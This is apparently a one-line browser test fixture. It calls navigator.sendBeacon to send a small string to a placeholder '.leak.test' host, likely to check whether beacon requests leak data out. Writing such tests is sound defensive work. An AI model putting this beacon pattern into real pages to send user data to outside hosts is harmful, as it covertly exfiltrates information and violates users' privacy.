navigator.sendBeacon("https://js-send-beacon.leak.test/", "a")
